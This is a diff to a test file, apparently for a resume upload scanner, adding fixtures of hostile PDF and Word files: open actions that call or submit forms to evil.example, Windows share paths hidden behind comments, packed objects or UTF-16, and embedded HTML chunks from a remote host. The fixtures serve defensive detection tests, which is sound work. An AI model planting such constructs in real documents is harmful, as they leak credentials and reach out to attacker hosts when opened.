@@ -49,6 +49,9 @@ const PROGRAM = Buffer.concat([
 const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(500)])
 const HTML = '<html><body><script>alert(1)</script></body></html>'
 const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
+const ADDRESS = '<< /S /URI /URI (https://evil.example/x) >>'
+const LINK_TO = (file: string) =>
+  `/Annots [<< /Subtype /Link /A << /S /GoToR /F ${file} /D [0 /Fit] >> >>]`
 const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
 
 const text = (content: string) => () => Buffer.from(content)
@@ -190,6 +193,69 @@ const hostilePdfs: readonly HostileResume[] = [
   asPdf('a program to be started', active, () =>
     pdf('Mira', { catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>' }),
   ),
+  asPdf('an address to be asked for when it opens', active, () =>
+    pdf('Mira', { catalog: `/OpenAction ${ADDRESS}` }),
+  ),
+  asPdf('a share to be asked for when it opens', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /URI /URI (file://evil.example/x) >>' }),
+  ),
+  asPdf('an address in an object of its own', active, () =>
+    pdf('Mira', { catalog: '/OpenAction 6 0 R', objects: [ADDRESS] }),
+  ),
+  asPdf('an address in packed objects', active, () =>
+    pdfOfPackedObjects('/OpenAction 7 0 R', ['null', ADDRESS]),
+  ),
+  asPdf('an address after a harmless action', active, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>',
+      objects: ['null', '<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>', ADDRESS],
+    }),
+  ),
+  asPdf('an address in an action whose name stands elsewhere', active, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction << /S 6 0 R /URI (https://evil.example) >>',
+      objects: ['/URI'],
+    }),
+  ),
+  asPdf('an address when a page is shown', active, () =>
+    pdf('Mira', { page: '/AA 6 0 R', objects: ['<< /O 7 0 R >>', ADDRESS] }),
+  ),
+  asPdf('an address in an object whose number stands behind a comment', active, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction 20 0 R',
+      objects: [`null endobj 20 % 9\n0 obj ${ADDRESS}`],
+    }),
+  ),
+  asPdf('an address under a reference with a comment', active, () =>
+    pdf('Mira', { catalog: '/OpenAction 6 %\n 0 % 7 0\n R', objects: [ADDRESS] }),
+  ),
+  asPdf('a form to be sent when it opens', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
+  ),
+  asPdf('another file to be opened at once', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /GoToR /F (cover.pdf) /D [0 /Fit] >>' }),
+  ),
+  asPdf('a command of the reader that is none of a page', active, () =>
+    pdf('Mira', { catalog: '/OpenAction << /S /Named /N /SaveAs >>' }),
+  ),
+  asPdf('actions after one another without end', broken, () =>
+    pdf('Mira', {
+      catalog: '/OpenAction 6 0 R',
+      objects: Array.from({ length: 100 }, (_, index) => `<< /S /GoTo /Next ${index + 7} 0 R >>`),
+    }),
+  ),
+  asPdf('a film', active, () =>
+    pdf('Mira', { page: '/Annots [<< /Subtype /Movie /Movie << /F (film.avi) >> >>]' }),
+  ),
+  asPdf('a film of an address', active, () =>
+    pdf('Mira', { page: '/Annots [<< /Subtype /Screen /A << /S /Rendition /OP 0 >> >>]' }),
+  ),
+  asPdf('a sound', active, () =>
+    pdf('Mira', { page: '/Annots [<< /Subtype /Link /A << /S /Sound /Sound 6 0 R >> >>]' }),
+  ),
+  asPdf('a script of a scene', active, () =>
+    pdf('Mira', { objects: [pdfStream('/Type /3D /Subtype /U3D /OnInstantiate 7 0 R', 'x')] }),
+  ),
   asPdf('a form of XML', active, () => pdf('Mira', { catalog: '/AcroForm << /XFA 6 0 R >>' })),
   asPdf('a film that runs', active, () =>
     pdf('Mira', { page: '/Annots [<< /Subtype /RichMedia >>]' }),
@@ -216,7 +282,30 @@ const hostilePdfs: readonly HostileResume[] = [
     }),
   ),
   asPdf('a page on a share of Windows', remote, () =>
-    pdf('Mira', { page: '/AA << /O << /S /GoToR /F (\\\\\\\\evil.example\\\\x) >> >>' }),
+    pdf('Mira', { page: LINK_TO('(\\\\\\\\evil.example\\\\x)') }),
+  ),
+  asPdf('a page on a share, its path in an object of its own', remote, () =>
+    pdf('Mira', { page: LINK_TO('6 0 R'), objects: ['(\\\\\\\\evil.example\\\\x)'] }),
+  ),
+  asPdf('a page on a share, its path in packed objects', remote, () =>
+    pdfOfPackedObjects(LINK_TO('6 0 R'), ['(//evil.example/x)']),
+  ),
+  asPdf('a page on a share, as an address', remote, () =>
+    pdf('Mira', { page: LINK_TO('<< /UF (file://evil.example/x.pdf) >>') }),
+  ),
+  asPdf('a page on a share, in UTF-16', remote, () =>
+    pdf('Mira', { page: LINK_TO('<< /UF <FEFF005C005C006500760069006C> >>') }),
+  ),
+  asPdf('a stream whose data lies elsewhere', remote, () =>
+    pdf('Mira', { objects: [pdfStream('/F (data.bin)', '')] }),
+  ),
+  asPdf('a stream whose data lies at an address', remote, () =>
+    pdf('Mira', {
+      objects: [pdfStream('/F 7 0 R', ''), '<< /FS /URL /F (https://evil.example/x) >>'],
+    }),
+  ),
+  asPdf('a stream with a packing for data from elsewhere', remote, () =>
+    pdf('Mira', { objects: [pdfStream('/FFilter /FlateDecode', '')] }),
   ),
 ]
 
@@ -412,6 +501,18 @@ const hostileDocx: readonly HostileResume[] = [
     'an object on a server',
     remote,
     withTarget('oleObject', 'mhtml:https://evil.example/x!x'),
+  ),
+  asDocx('a page of HTML to be taken in', embedded, () =>
+    docx({
+      types: '<Default Extension="html" ContentType="text/html"/>',
+      relationships: relationship('aFChunk', 'chunk.html'),
+      parts: [{ name: 'word/chunk.html', content: '<img src="file://evil.example/x.png">' }],
+    }),
+  ),
+  asDocx(
+    'a page of a server to be taken in',
+    embedded,
+    withTarget('aFChunk', 'https://evil.example/'),
   ),
   asDocx('a frame of a server', remote, withTarget('frame', 'https://evil.example/')),
   asDocx('a picture on a share', remote, withTarget('image', 'file://evil.example/x.png')),
